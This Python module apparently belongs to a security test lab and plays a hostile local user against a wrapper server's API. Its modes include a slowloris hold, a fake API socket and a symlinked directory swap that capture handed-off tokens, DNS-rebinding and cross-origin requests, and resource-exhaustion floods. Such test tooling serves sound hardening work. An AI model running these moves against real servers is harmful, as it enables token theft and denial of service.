"""Hostile-local-user moves and server measurements (docs/hostile-users.md). Stdlib only;
prints one JSON object.

    python3 -m wraplab.actors.hostile state --pid PID --base DIR
    python3 -m wraplab.actors.hostile sessions --api API --count N [--seconds S]
    python3 -m wraplab.actors.hostile browser --api tcp:HOST:PORT
    python3 -m wraplab.actors.hostile long-paths --api API --count N --length L [--seconds S]
    python3 -m wraplab.actors.hostile deep-tree --api API --depth N
    python3 -m wraplab.actors.hostile ptrace-hold --api API --seconds S
    python3 -m wraplab.actors.hostile big-args --api API --count N --size B [--seconds S]
    python3 -m wraplab.actors.hostile mkdir --path DIR
    python3 -m wraplab.actors.hostile fake-api --dir DIR --seconds S
    python3 -m wraplab.actors.hostile slowloris --api API --conns N --interval S --seconds S
        [--ready FILE]
    python3 -m wraplab.actors.hostile requests --api API --count N --timeout S
    python3 -m wraplab.actors.hostile swap-dir --dir WRAPDIR --seconds S [--ready FILE]
    python3 -m wraplab.actors.hostile append --path FILE --line TEXT
    python3 -m wraplab.actors.hostile symlink --path LINK --target PATH

``state``: the server process's fd count, threads, RSS (KiB), CPU seconds, umask and soft
RLIMIT_NOFILE, and the number of ``wrap-*`` directories under DIR (as root). ``sessions``:
N new sessions as fast as possible, answers counted by HTTP status. ``browser``: what a web
page in a local browser can send to a loopback TCP API without a preflight (``Origin``, a
foreign ``Host``, a ``text/plain`` body), answers by case. ``long-paths``: N requests for a
missing path L bytes long (each a 404 and a log line). ``deep-tree``: a wrap-init of our
own, then N nested directories inside the wrap directory we were handed (openat, one fd at
a time). ``ptrace-hold``: a wrap-init of our own (the server in ptrace mode), a handoff
with our own pid, then the ACKed keepalive held for S seconds or until a SIGTERM.
``big-args``: N wrap-inits whose ``agent_args`` hold B bytes, never dialled. ``mkdir``: DIR
(0755, ours). ``fake-api``: in DIR (ours), move the real API socket aside if there is one,
then serve a fake API whose wrap-init names our own notify socket, and report any token
handed to it (until the first token, ``--seconds``, or a SIGTERM). ``slowloris``: N API
connections held at once, each sending a request line and then one header line every S
seconds, never the blank line that ends the headers
(non-blocking connects: a full backlog is EAGAIN, retried until no more connections can be
held for ``SLOWLORIS_NO_GAIN`` seconds, at most 4 N attempts); answers (an HTTP status,
or a close) counted;
``--ready`` is created once every connect was tried and the answers that came at once were
read (until none came for 0.5 s); SIGTERM (or ``--seconds``) ends it, every connection
closed. ``requests``: N sessions created one after another, each bounded by the timeout:
status and latency of each (what the owner sees). ``swap-dir``: move WRAPDIR (in a
directory we own) aside, put a symlink to a directory of ours with our own listener at
every socket name it held, and take one handoff: the token that arrives. ``append``: append
a line to an existing FILE (no create). ``symlink``: plant LINK -> PATH. Every mode is
bounded by its count and ``--seconds``.
"""

from __future__ import annotations

import argparse
import array
import http.client
import json
import os
import resource
import select
import signal
import socket
import struct
import time

from wraplab.actors._common import (
    api_connection,
    api_request,
    emit,
    errno_name,
    proc_status,
    release_on_term,
    wrap_init_body,
)


def own_wrap(api: str, body=None) -> dict:
    """A session and a wrap-init of our own: ``{"status", "resp"}``."""
    st, sess = api_request(api, "POST", "/api/v1/sessions", {})
    if st != 201 or not isinstance(sess, dict):
        return {"status": st, "resp": sess}
    st, resp = api_request(api, "POST", f"/api/v1/sessions/{sess['id']}/wrap-init",
                           body or wrap_init_body())
    return {"status": st, "resp": resp, "session": sess["id"]}


def deep_tree(api: str, depth: int) -> dict:
    w = own_wrap(api)
    out = {"wrap_init": w["status"], "session": w.get("session"), "made": 0}
    if w["status"] != 200:
        return out
    wdir = os.path.dirname(w["resp"]["notify_socket"])
    out["dir"] = wdir
    try:
        fd = os.open(wdir, os.O_RDONLY | os.O_DIRECTORY)
    except OSError as exc:
        out["errno"] = errno_name(exc)
        return out
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            nfd = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = nfd
            out["made"] += 1
    except OSError as exc:
        out["errno"] = errno_name(exc)
    finally:
        os.close(fd)
    return out


def ptrace_hold(api: str, seconds: float) -> dict:
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM})  # taken by the hold below
    w = own_wrap(api)
    out = {"wrap_init": w["status"], "session": w.get("session"), "ack": None}
    if w["status"] != 200:
        return out
    path = w["resp"]["notify_socket"]
    out["dir"] = os.path.dirname(path)
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(10)
    try:
        sock.connect(path)
        sock.sendall(struct.pack("<I", os.getpid()))
        ack = sock.recv(1)
        out["ack"] = ack[0] if ack else None
        out["acked_at"] = time.time()
        if ack:  # the attacker's hold, the point of the attack; a SIGTERM ends it early
            signal.sigtimedwait({signal.SIGTERM}, seconds)
        out["released_at"] = time.time()
    except OSError as exc:
        out["errno"] = errno_name(exc)
    finally:
        sock.close()
    return out


def big_args(api: str, count: int, size: int, seconds: float) -> dict:
    out: dict[str, int] = {}
    body = wrap_init_body()
    body["agent_args"] = ["a" * size]
    t0 = time.monotonic()
    n = 0
    while n < count and time.monotonic() - t0 < seconds:
        n += 1
        st = own_wrap(api, body)["status"]
        out[str(st)] = out.get(str(st), 0) + 1
    return {"attempts": n, "outcomes": out, "seconds": round(time.monotonic() - t0, 3)}


def _nofile(pid: int):
    with open(f"/proc/{pid}/limits") as f:
        for line in f:
            if line.startswith("Max open files"):
                soft = line.split()[3]
                return int(soft) if soft.isdigit() else soft
    return None


def _cpu_s(pid: int) -> float:
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[-1].split()
    return round((int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK"), 2)


def state(pid: int, base: str) -> dict:
    out = {"pid": pid}
    try:
        status = proc_status(pid)
        out["fds"] = len(os.listdir(f"/proc/{pid}/fd"))
        out["threads"] = int(status.get("Threads", "0"))
        out["rss_kib"] = int((status.get("VmRSS") or "0 kB").split()[0])
        out["umask"] = status.get("Umask")
        out["nofile"] = _nofile(pid)
        out["cpu_s"] = _cpu_s(pid)
    except FileNotFoundError:
        out["exists"] = False
    try:
        out["dirs"] = sum(1 for n in os.listdir(base) if n.startswith("wrap-"))
    except OSError as exc:
        out["dirs_errno"] = exc.errno
    return out


def sessions(api: str, count: int, seconds: float) -> dict:
    out: dict[str, int] = {}
    t0 = time.monotonic()
    n = 0
    while n < count and time.monotonic() - t0 < seconds:
        n += 1
        st, _ = api_request(api, "POST", "/api/v1/sessions", {})
        out[str(st)] = out.get(str(st), 0) + 1
    return {"attempts": n, "outcomes": out, "seconds": round(time.monotonic() - t0, 3)}


def _raw_tcp(host: str, port: int, head: str, body: bytes) -> int | None:
    sock = socket.create_connection((host, port), timeout=5)
    try:
        sock.sendall(head.encode() + b"Content-Length: %d\r\n\r\n" % len(body) + body)
        data = b""
        while b"\r\n" not in data:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
    finally:
        sock.close()
    parts = data.split(b" ", 2)
    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else None


def browser(api: str) -> dict:
    scheme, _, rest = api.partition(":")
    if scheme != "tcp":
        raise SystemExit("browser: want a tcp:HOST:PORT API")
    host, _, port = rest.rpartition(":")
    host = host.strip("[]")
    port_ = int(port)
    cases = {
        # fetch("http://127.0.0.1:PORT/api/v1/sessions", {method: "POST", mode: "no-cors",
        # body: '{}'}) from a page on another origin: a "simple" request, no preflight.
        "origin-text-plain": ("Origin: http://evil.example\r\nContent-Type: text/plain;"
                              "charset=UTF-8\r\n", f"127.0.0.1:{port_}"),
        # DNS rebinding: same-origin for the browser, so no Origin on a GET-less POST in
        # old browsers; the Host is the attacker's name.
        "rebinding-host": ("Content-Type: application/json\r\n", f"evil.example:{port_}"),
    }
    out = {}
    for name, (extra, hosthdr) in cases.items():
        head = (f"POST /api/v1/sessions HTTP/1.1\r\nHost: {hosthdr}\r\n{extra}"
                "Connection: close\r\n")
        try:
            out[name] = _raw_tcp(host, port_, head, b"{}")
        except OSError as exc:
            out[name] = f"errno {exc.errno}"
    return {"answers": out}


def long_paths(api: str, count: int, length: int, seconds: float) -> dict:
    out: dict[str, int] = {}
    t0 = time.monotonic()
    n = 0
    path = "/" + "x" * length
    while n < count and time.monotonic() - t0 < seconds:
        n += 1
        st, _ = api_request(api, "GET", path)
        out[str(st)] = out.get(str(st), 0) + 1
    return {"attempts": n, "outcomes": out, "bytes_sent": n * length,
            "seconds": round(time.monotonic() - t0, 3)}


def make_dir(path: str) -> dict:
    try:
        os.mkdir(path, 0o755)
        os.chmod(path, 0o755)
    except OSError as exc:
        return {"path": path, "errno": errno_name(exc)}
    return {"path": path, "uid": os.getuid()}


def _read_request(conn: socket.socket, limit: int = 1 << 20) -> bytes:
    """One whole HTTP request (headers, then Content-Length bytes of body): a client that
    sends its body after its headers must not find the connection closed (EPIPE)."""
    data = b""
    while b"\r\n\r\n" not in data and len(data) < limit:
        chunk = conn.recv(65536)
        if not chunk:
            return data
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = 0
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length" and value.strip().isdigit():
            length = int(value.strip())
    while len(body) < min(length, limit):
        chunk = conn.recv(65536)
        if not chunk:
            break
        body += chunk
    return data


def fake_api(directory: str, seconds: float) -> dict:
    """Serve a fake API and notify socket in *directory* for *seconds*."""

    api_path = os.path.join(directory, "api.sock")
    notify_path = os.path.join(directory, "notify-fake.sock")
    out = {"moved_real": False, "requests": 0, "handoffs": 0, "token": None}
    try:
        os.rename(api_path, os.path.join(directory, ".real-api.sock"))
        out["moved_real"] = True
    except FileNotFoundError:
        pass
    except OSError as exc:
        out["move_errno"] = errno_name(exc)
    listeners = []
    for path in (api_path, notify_path):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.bind(path)
        os.chmod(path, 0o666)
        sock.listen(8)
        sock.settimeout(0.1)
        listeners.append(sock)
    api, notify = listeners
    out["ready_at"] = time.time()
    deadline = time.monotonic() + seconds
    answers = [(201, {"id": "s-fake"}),
               (200, {"notify_socket": notify_path, "ptrace_mode": False,
                      "fs_isolation": "chown", "wrapper_binary": "x"})]
    try:
        while time.monotonic() < deadline and out["token"] is None and not _STOP:
            for lst in (api, notify):
                try:
                    conn, _ = lst.accept()
                except OSError:
                    continue
                with conn:
                    conn.settimeout(2)
                    try:
                        if lst is api:
                            if not _read_request(conn):
                                continue
                            st, body = answers[min(out["requests"], 1)]
                            out["requests"] += 1
                            data = json.dumps(body).encode()
                            conn.sendall(b"HTTP/1.1 %d X\r\nContent-Type: application/json\r\n"
                                         b"Content-Length: %d\r\nConnection: close\r\n\r\n"
                                         % (st, len(data)) + data)
                            continue
                        fds = array.array("i")
                        _msg, anc, _f, _a = conn.recvmsg(64, socket.CMSG_SPACE(4 * 4))
                        for level, kind, raw in anc:
                            if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
                                fds.frombytes(raw[: len(raw) - len(raw) % 4])
                        out["handoffs"] += 1
                        for fd in fds:
                            try:
                                got = os.read(fd, 256).decode("utf-8", "replace")
                                out["token"] = got or out["token"]
                            finally:
                                os.close(fd)
                        conn.sendall(b"\x01")
                    except OSError:
                        continue
    finally:
        for sock in listeners:
            sock.close()
    return out


#: slowloris: the server holds no more connections once none was gained for this long (a
#: server out of fds, or at its bound, gains none again; one still accepting gains some every
#: few milliseconds). It was 3 s until 2026-12-01: 2.5 s of every weak cell's 3.7 s.
SLOWLORIS_NO_GAIN = 1.0
_STOP = []
_WAKE: list[int] = []  # an fd readable once a SIGTERM came (release_on_term)


def _on_term(_sig, _frame) -> None:
    _STOP.append(True)


def _answer(data: bytes) -> str:
    """What a server's first bytes on a held connection were: its HTTP status or ``closed``."""
    parts = data.split(b" ", 2)
    if not data:
        return "closed"
    return parts[1].decode() if len(parts) > 1 and parts[1].isdigit() else "bytes"


def slowloris(api: str, conns: int, interval: float, seconds: float, ready: str | None) -> dict:
    """Hold up to *conns* API connections with headers that never end."""
    scheme, _, path = api.partition(":")
    if scheme != "unix":
        raise SystemExit("slowloris: want a unix:PATH API")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < conns + 64:  # our own fds must not be what limits the attack
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(conns + 64, hard), hard))
    t0 = time.time()
    deadline = time.monotonic() + seconds
    held: list[socket.socket] = []
    answers: dict[str, int] = {}
    errors: dict[str, int] = {}
    first = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"

    def collect(timeout: float) -> int:
        """Read what the server sent on held connections; drop the answered ones."""
        if not held:
            return 0
        readable, _, _ = select.select(held + _WAKE, [], [], timeout)
        readable = [s for s in readable if s not in _WAKE]  # a SIGTERM: _STOP is set
        for s in readable:
            try:
                data = s.recv(4096)
            except OSError as exc:
                key = errno_name(exc)
            else:
                key = _answer(data)
            answers[key] = answers.get(key, 0) + 1
            held.remove(s)
            s.close()
        return len(readable)

    # Open until *conns* are held at once, retrying what the backlog or the server turned
    # away, until no more can be held for a while (the server's bound, or its fds).
    attempts = 0
    best, last_gain = 0, time.monotonic()
    while len(held) < conns and attempts < 4 * conns and not _STOP \
            and time.monotonic() - last_gain < SLOWLORIS_NO_GAIN \
            and time.monotonic() < deadline:
        attempts += 1
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        try:
            s.connect(path)
            s.send(first)
        except OSError as exc:
            key = "EAGAIN" if isinstance(exc, BlockingIOError) else errno_name(exc)
            errors[key] = errors.get(key, 0) + 1
            s.close()
            collect(0.005)  # the backlog is full or the server closed on us: let it work
        else:
            held.append(s)
            if len(held) % 32 == 0:
                collect(0)
        if len(held) > best:
            best, last_gain = len(held), time.monotonic()
    opened = attempts - sum(errors.values())
    settle = time.monotonic() + 5  # what a bounded server answers at once comes by then
    while collect(0.5) and time.monotonic() < settle:
        pass
    out = {"conns": conns, "attempts": attempts, "opened": opened, "connect_errors": errors,
           "held_at_ready": len(held), "answers_at_ready": dict(answers), "t0": t0,
           "ready_at": time.time()}
    if ready:
        os.close(os.open(ready, os.O_WRONLY | os.O_CREAT, 0o644))
    sent = 0
    next_send = time.monotonic() + interval
    while not _STOP and time.monotonic() < deadline and held:
        collect(max(0.0, min(next_send, deadline) - time.monotonic()))
        if time.monotonic() >= next_send:
            for s in list(held):
                try:
                    s.send(b"X-Slow: %d\r\n" % sent)
                except OSError as exc:
                    key = errno_name(exc)
                    answers[key] = answers.get(key, 0) + 1
                    held.remove(s)
                    s.close()
            sent += 1
            next_send = time.monotonic() + interval
    out.update(held_at_end=len(held), answers=answers, header_lines_sent=sent,
               seconds=round(time.time() - t0, 3))
    for s in held:
        s.close()
    return out


def requests(api: str, count: int, timeout: float) -> dict:
    """*count* session creations one after another: status (or errno) and latency."""
    tries = []
    for _ in range(count):
        t = time.monotonic()
        conn = api_connection(api, timeout)
        st, error = None, None
        try:
            conn.request("POST", "/api/v1/sessions", body=b"{}",
                         headers={"Connection": "close", "Content-Type": "application/json"})
            resp = conn.getresponse()
            resp.read()
            st = resp.status
        except OSError as exc:
            error = errno_name(exc)  # EAGAIN: the backlog is full
        except http.client.HTTPException as exc:
            error = type(exc).__name__
        finally:
            conn.close()
        tries.append({"status": st, "error": error,
                      "ms": round((time.monotonic() - t) * 1000, 1)})
    return {"tries": tries, "ok": sum(1 for t in tries if t["status"] == 201)}


def _bound_under(directory: str) -> list[str]:
    """Names of the sockets bound directly in *directory*, from /proc/net/unix."""
    prefix = directory.rstrip("/") + "/"
    names = set()
    try:
        with open("/proc/net/unix") as f:
            for line in f.readlines()[1:]:
                parts = line.split()
                if len(parts) >= 8 and parts[7].startswith(prefix) \
                        and "/" not in parts[7][len(prefix):]:
                    names.add(parts[7][len(prefix):])
    except OSError:
        pass
    return sorted(names)


def swap_dir(wrapdir: str, seconds: float, ready: str | None) -> dict:
    """Swap *wrapdir* for a symlink to a directory of ours serving its socket names."""
    parent, name = os.path.split(wrapdir.rstrip("/"))
    out = {"dir": wrapdir, "swapped": False, "handoffs": 0, "token": None}
    names = _bound_under(wrapdir)  # /proc/net/unix: readable by all, even when the dir is not
    if not names:
        try:
            names = sorted(n for n in os.listdir(wrapdir) if n.endswith(".sock"))
        except OSError as exc:
            out["list_errno"] = errno_name(exc)
    mine = os.path.join(parent, f".{name}-mallory")
    listeners = []
    try:
        os.mkdir(mine, 0o755)
        os.rename(wrapdir, os.path.join(parent, f".{name}-moved"))
        for n in names:
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.bind(os.path.join(mine, n))
            os.chmod(os.path.join(mine, n), 0o666)
            sock.listen(8)
            listeners.append(sock)
        os.symlink(mine, wrapdir)
        out["swapped"] = True
    except OSError as exc:
        out["errno"] = errno_name(exc)
    out.update(sockets=names, ready_at=time.time())
    if ready:
        os.close(os.open(ready, os.O_WRONLY | os.O_CREAT, 0o644))
    deadline = time.monotonic() + seconds
    try:
        while out["swapped"] and not _STOP and out["token"] is None \
                and time.monotonic() < deadline:
            readable, _, _ = select.select(listeners + _WAKE, [], [], 0.1)
            readable = [s for s in readable if s not in _WAKE]
            for lst in readable:
                conn, _ = lst.accept()
                with conn:
                    conn.settimeout(2)
                    fds = array.array("i")
                    try:
                        _msg, anc, _f, _a = conn.recvmsg(64, socket.CMSG_SPACE(4 * 4))
                    except OSError:
                        continue
                    for level, kind, raw in anc:
                        if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
                            fds.frombytes(raw[: len(raw) - len(raw) % 4])
                    out["handoffs"] += 1
                    for fd in fds:
                        try:
                            os.set_blocking(fd, False)
                            got = os.read(fd, 256).decode("utf-8", "replace")
                            out["token"] = got or out["token"]
                        except OSError:
                            pass
                        finally:
                            os.close(fd)
                    try:
                        conn.sendall(b"\x01")
                    except OSError:
                        pass
    finally:
        for sock in listeners:
            sock.close()
    return out


def append(path: str, line: str) -> dict:
    try:
        fd = os.open(path, os.O_WRONLY | os.O_APPEND)
    except OSError as exc:
        return {"path": path, "errno": errno_name(exc)}
    try:
        n = os.write(fd, (line + "\n").encode())
    finally:
        os.close(fd)
    return {"path": path, "appended": n}


def plant_symlink(path: str, target: str) -> dict:
    try:
        os.symlink(target, path)
    except OSError as exc:
        return {"path": path, "errno": errno_name(exc)}
    return {"path": path, "target": target, "uid": os.getuid()}


def main(argv=None):
    parser = argparse.ArgumentParser(prog="hostile", description=__doc__.splitlines()[0])
    sub = parser.add_subparsers(dest="mode", required=True)
    p = sub.add_parser("state")
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--base", required=True)
    p = sub.add_parser("sessions")
    p.add_argument("--api", required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--seconds", type=float, default=30.0)
    p = sub.add_parser("browser")
    p.add_argument("--api", required=True)
    p = sub.add_parser("long-paths")
    p.add_argument("--api", required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--length", type=int, required=True)
    p.add_argument("--seconds", type=float, default=30.0)
    p = sub.add_parser("deep-tree")
    p.add_argument("--api", required=True)
    p.add_argument("--depth", type=int, required=True)
    p = sub.add_parser("ptrace-hold")
    p.add_argument("--api", required=True)
    p.add_argument("--seconds", type=float, required=True)
    p = sub.add_parser("big-args")
    p.add_argument("--api", required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--size", type=int, required=True)
    p.add_argument("--seconds", type=float, default=30.0)
    p = sub.add_parser("mkdir")
    p.add_argument("--path", required=True)
    p = sub.add_parser("fake-api")
    p.add_argument("--dir", required=True)
    p.add_argument("--seconds", type=float, required=True)
    p = sub.add_parser("slowloris")
    p.add_argument("--api", required=True)
    p.add_argument("--conns", type=int, required=True)
    p.add_argument("--interval", type=float, default=2.0)
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--ready")
    p = sub.add_parser("requests")
    p.add_argument("--api", required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--timeout", type=float, default=2.0)
    p = sub.add_parser("swap-dir")
    p.add_argument("--dir", required=True)
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--ready")
    p = sub.add_parser("append")
    p.add_argument("--path", required=True)
    p.add_argument("--line", required=True)
    p = sub.add_parser("symlink")
    p.add_argument("--path", required=True)
    p.add_argument("--target", required=True)
    args = parser.parse_args(argv)
    if args.mode in ("slowloris", "swap-dir", "fake-api"):
        # a SIGTERM ends the hold at once (it wakes our selects); the report still prints
        _WAKE.append(release_on_term(_on_term))
    if args.mode == "slowloris":
        emit(slowloris(args.api, min(args.conns, 20000), args.interval,
                       min(args.seconds, 120.0), args.ready))
    elif args.mode == "requests":
        emit(requests(args.api, min(args.count, 100), args.timeout))
    elif args.mode == "swap-dir":
        emit(swap_dir(args.dir, min(args.seconds, 60.0), args.ready))
    elif args.mode == "append":
        emit(append(args.path, args.line))
    elif args.mode == "symlink":
        emit(plant_symlink(args.path, args.target))
    elif args.mode == "state":
        emit(state(args.pid, args.base))
    elif args.mode == "sessions":
        emit(sessions(args.api, args.count, args.seconds))
    elif args.mode == "browser":
        emit(browser(args.api))
    elif args.mode == "deep-tree":
        emit(deep_tree(args.api, min(args.depth, 100000)))
    elif args.mode == "ptrace-hold":
        emit(ptrace_hold(args.api, min(args.seconds, 120.0)))
    elif args.mode == "mkdir":
        emit(make_dir(args.path))
    elif args.mode == "fake-api":
        emit(fake_api(args.dir, min(args.seconds, 60.0)))
    elif args.mode == "big-args":
        emit(big_args(args.api, args.count, args.size, args.seconds))
    else:
        emit(long_paths(args.api, args.count, args.length, args.seconds))


if __name__ == "__main__":
    main()
